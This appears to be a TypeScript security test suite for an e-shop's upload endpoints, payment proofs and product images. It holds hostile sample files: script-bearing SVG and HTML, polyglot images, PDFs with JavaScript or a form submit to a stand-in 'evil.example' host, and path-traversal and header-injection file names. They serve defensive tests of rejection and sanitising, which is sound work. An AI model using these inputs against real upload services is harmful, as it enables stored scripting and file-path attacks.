import type { Product } from '@eshop/contracts/product';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { newGoods } from '../e2e/support/goods.ts';
import { call } from '../e2e/support/http.ts';
import { paymentOf, place, png, submitProof, trySubmitProof } from '../e2e/support/orders.ts';
import { newCustomer, type Person, tokenOf } from '../e2e/support/people.ts';
import { pdfWith } from '../e2e/support/proof-files.ts';
import { newVisitor } from '../e2e/support/visitor.ts';

const text = (content: string) => Buffer.from(content, 'latin1');
const svg = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>');
const gif = text(
  'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
);

/** Files that are something else than an image or a receipt, or something else besides. */
const hostile: Readonly<Record<string, Buffer>> = {
  'an SVG with a script': svg,
  'an SVG behind an XML declaration': Buffer.concat([text('<?xml version="1.0"?>\n'), svg]),
  'an SVG behind a picture’s first bytes': Buffer.concat([png.subarray(0, 8), svg]),
  'a page': text('<!doctype html><script>alert(1)</script>'),
  'a program': text('MZ\x90\0'),
  'a program for Linux': text('\x7fELF\x02\x01\x01'),
  'a PDF with a script': pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  'a PDF with an address that it calls': pdfWith('/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>'),
  'a PDF behind a page': Buffer.concat([text('<script>alert(1)</script>'), pdfWith('')]),
};

/** Files that show something, and are something else besides. */
const twofold: Readonly<Record<string, Buffer>> = {
  'a GIF that is a script': Buffer.concat([gif, text('/*'), text('*/=1;alert(1)')]),
  'a picture and an archive': Buffer.concat([png, text('PK\x03\x04'), text('alert(1)')]),
  'a picture and a page': Buffer.concat([png, text('<script>alert(1)</script>')]),
  'a PDF with a file in it': pdfWith('/Names << /EmbeddedFiles << /Names [(alert(1)) 3 0 R] >> >>'),
};

let ada: Person;
let goods: Product;
beforeAll(async () => {
  ada = await newCustomer();
  goods = (await newGoods(9)).product;
});

const formOf = (bytes: Uint8Array, name: string, type: string) => {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(bytes)], { type }), name);
  return form;
};

describe('a proof', () => {
  it('is taken from the API and from the site for what it is, never for what it is called', async () => {
    const order = await place(ada, { productId: goods.id });
    const visitor = newVisitor('customer');
    await visitor.logIn(ada.username, 'Very-secret-1');
    const { csrf } = (await (await visitor.ask('/cart/state')).json()) as { csrf: string };
    for (const [description, file] of Object.entries(hostile)) {
      const byApi = await trySubmitProof(ada, order.id, new Uint8Array(file));
      expect(byApi.status, description).toBe(415);
      const bySite = await visitor.ask(`/orders/${order.id}/proof`, {
        method: 'POST',
        headers: { origin: visitor.url, accept: 'application/json', 'x-csrf-token': csrf },
        body: formOf(file, 'receipt.png', 'image/png'),
      });
      expect(bySite.status, description).toBe(415);
    }
    expect((await paymentOf(ada, order.id)).status).toBe('PENDING');
  });

  it('that is something else besides is kept without that', async () => {
    const order = await place(ada, { productId: goods.id });
    for (const [description, file] of Object.entries(twofold)) {
      expect((await trySubmitProof(ada, order.id, new Uint8Array(file))).status, description).toBe(201);
      const { id } = await paymentOf(ada, order.id);
      const { headers } = await call('payment', `GET /v1/payments/${id}/proof`, { token: ada.token });
      const keptFile = Buffer.from(await (await fetch(headers.get('location') ?? '')).arrayBuffer());
      expect(keptFile.length, description).toBeGreaterThan(50);
      expect(keptFile.includes('alert'), description).toBe(false);
    }
  });

  it('is kept under no name of its sender’s', async () => {
    const order = await place(ada, { productId: goods.id });
    const names = [
      '../../../../etc/cron.d/evil',
      '..\\..\\evil.png',
      `${'x'.repeat(5000)}.png`,
      '"; filename="evil.html',
      'evil.html',
    ];
    for (const name of names) {
      const token = ada.token;
      const body = formOf(png, name, 'text/html');
      const answer = await call('payment', `POST /v1/payments/by-order/${order.id}/proof`, { token, body });
      expect(answer, name.slice(0, 40)).toMatchObject({ status: 201, body: { proof: { contentType: 'image/png' } } });
    }
    const nul = formOf(png, 'a\0.png', 'image/png');
    const response = await call('payment', `POST /v1/payments/by-order/${order.id}/proof`, {
      token: ada.token,
      body: nul,
    });
    expect(response.status).toBe(400);
    const { id } = await paymentOf(ada, order.id);
    const { headers } = await call('payment', `GET /v1/payments/${id}/proof`, { token: ada.token });
    const location = new URL(headers.get('location') ?? '');
    expect(`${location}`).not.toMatch(/evil|x{40}|html/);
    const file = await fetch(location);
    expect(file.headers.get('content-type')).toBe('image/png');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment/);
  });

  it('is shown to an admin as what it was judged to be, in a page that may run nothing', async () => {
    const order = await place(ada, { productId: goods.id });
    const { id } = await submitProof(ada, order.id);
    const admin = newVisitor('admin');
    await admin.logIn('admin', process.env.ESHOP_DEMO_PASSWORD ?? 'Eshop-demo-1');
    const { headers, status } = await admin.ask(`/proofs/${id}`);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('image/png');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toMatch(/^default-src 'none';.*frame-ancestors 'self'$/);
    expect(headers.get('content-security-policy')).not.toContain('script-src');
    expect(headers.get('cache-control')).toContain('no-store');
  });
});

describe('a picture of a vehicle', () => {
  const upload = async (file: Uint8Array, name = 'picture.png', type = 'image/png') =>
    call<Product>('product', `POST /v1/products/${goods.id}/images`, {
      token: await tokenOf('manager'),
      body: formOf(file, name, type),
    });

  it('is refused when it is none', async () => {
    for (const [description, file] of Object.entries({ ...hostile, ...twofold })) {
      const { status } = await upload(file);
      // An image that something follows is drawn again, and what follows it is gone.
      expect(description.startsWith('a picture and') ? [201] : [415], description).toContain(status);
    }
  });

  it('is shown by the site without a byte of what came with it', async () => {
    const blankImage = await sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
      .withExif({ IFD0: { Copyright: '<script>MARK</script>' } })
      .jpeg()
      .toBuffer();
    const { body } = await upload(
      Buffer.concat([blankImage, text('<script>MARK</script>')]),
      '../MARK.html',
      'text/html',
    );
    const address = body.images.at(-1)?.url.replace(/^\/v1\/products\/([^/]+)\/images\//, '/media/products/$1/') ?? '';
    const answer = await newVisitor('customer').ask(address);
    expect(answer.headers.get('content-type')).toBe('image/webp');
    expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(Buffer.from(await answer.arrayBuffer()).includes('MARK')).toBe(false);
    expect(address).not.toContain('MARK');
  });
});
